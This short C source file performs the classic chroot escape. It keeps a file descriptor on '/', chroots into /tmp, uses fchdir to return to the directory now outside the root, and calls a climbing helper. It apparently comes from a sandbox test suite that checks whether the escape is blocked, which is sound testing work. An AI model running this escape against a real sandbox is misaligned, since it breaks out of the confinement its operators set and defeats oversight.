#include "climb.h"

/*
 * The classic: keep a directory open, move the root below it, go back to the directory that is now outside the root,
 * and climb. Needs a writable /tmp.
 */
int main(void) {
  long outside = syscall(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY, 0);
  if (outside == -1) return 97;
  announce("chroot");
  report("chroot", syscall(SYS_chroot, "/tmp"));
  announce("fchdir");
  report("fchdir", syscall(SYS_fchdir, outside));
  climb_and_look();
  return 0;
}
